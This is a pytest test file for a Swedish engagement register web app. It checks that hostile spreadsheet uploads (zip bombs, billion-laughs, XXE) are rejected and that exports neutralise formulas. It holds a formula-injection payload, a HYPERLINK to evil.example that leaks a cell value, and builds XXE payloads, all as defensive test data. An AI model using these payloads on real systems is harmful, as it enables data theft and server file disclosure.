"""Hostile and odd input to the register: uploads, exports, records whose files or cities are missing (issue 14)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from utblick.core.tests import hostile
from utblick.engagements.imports import INLINE_BYTES
from utblick.engagements.models import Engagement, EngagementImport
from utblick.strategies.tests.factories import strategy_for

from .factories import EngagementFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Klicka här")'


def _import_url(world, kind: str = "training") -> str:
    return f"/o/{world.org_a.slug}/engagements/import/{kind}/"


@pytest.fixture(scope="module")
def bomb_files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("register-bombs")
    return {
        "bomb": hostile.xlsx_bomb(folder / "bomb.xlsx").read_bytes(),
        "lying": hostile.xlsx_bomb(folder / "lying.xlsx", lying=True).read_bytes(),
    }


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("bomb", "packas upp till mer än 100 MB"),
        ("lying", "packas inte upp till det som dess filhuvud anger"),
        ("billion-laughs", "dokumenttypsdeklaration"),
        ("xxe", "dokumenttypsdeklaration"),
    ],
)
def test_a_hostile_workbook_is_refused_on_the_import_page_and_nothing_is_written(
    world, client_for, bomb_files, case, words, django_capture_on_commit_callbacks
):
    strategy_for(world.org_a)
    data = {
        "billion-laughs": lambda: hostile.xlsx_with_entities(hostile.BILLION_LAUGHS, hostile.LAUGH),
        "xxe": lambda: hostile.xlsx_with_entities(hostile.xxe(), b"&xxe;"),
    }.get(case, lambda: bomb_files[case])()
    client = client_for("coordinator_a")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_import_url(world), {"file": SimpleUploadedFile("utbildningar.xlsx", data)})
    if len(data) > INLINE_BYTES:  # a large file is read by the task worker; its page tells the outcome
        assert response.status_code == 302
        response = client.get(response["Location"])
        job = EngagementImport.objects.get()
        assert job.state == EngagementImport.State.REJECTED and not job.file  # the upload is not kept
    else:
        assert response.status_code == 400
    page = response.content.decode()
    assert words in page and "root:" not in page
    assert not Engagement.objects.exists()


def test_a_csv_with_doubled_quotes_and_swedish_numbers_is_imported_column_by_column(world, client_for):
    strategy_for(world.org_a)
    rows = (
        "\ufefftitle;unit;status;starts_on;directions;topic;politicians;management;staff\r\n"
        '"Besök ""Hamnen"", etapp 2";miljo;completed;2026-03-01;Profilering;"EU-program;\r\nflera dagar";1;2;3\r\n'
    )
    response = client_for("coordinator_a").post(
        _import_url(world), {"file": SimpleUploadedFile("utbildningar.csv", rows.encode())}
    )
    assert response.status_code == 302, response.content.decode()[-2000:]
    engagement = Engagement.objects.get()
    assert engagement.title == 'Besök "Hamnen", etapp 2'
    assert engagement.training.topic.splitlines() == ["EU-program;", "flera dagar"]  # a line break inside quotes
    assert engagement.training.participants == 6


def test_text_that_looks_like_a_formula_stays_text_in_the_exports_and_numbers_stay_numbers(world, client_for):
    EngagementFactory(owner_unit=world.unit_a, title=FORMULA, case_number="-2026/17", expected_results="@SUM(A1:A9)")
    client = client_for("reader_a")
    workbook = load_workbook(io.BytesIO(client.get(f"/o/{world.org_a.slug}/engagements/export/?format=xlsx").content))
    header, row = list(workbook.active.iter_rows(max_row=2))
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    title = cells["Titel"]
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)  # shown as written, never run
    assert cells["Diarienummer"].data_type == "s" and cells["Diarienummer"].quotePrefix
    assert cells["Id"].data_type == "n" and isinstance(cells["Id"].value, int)

    text = client.get(f"/o/{world.org_a.slug}/engagements/export/?format=csv").content.decode("utf-8-sig")
    exported = dict(zip(*list(csv.reader(io.StringIO(text)))[:2], strict=True))
    assert exported["Titel"] == "'" + FORMULA
    assert exported["Diarienummer"] == "'-2026/17" and exported["Förväntade resultat"] == "'@SUM(A1:A9)"
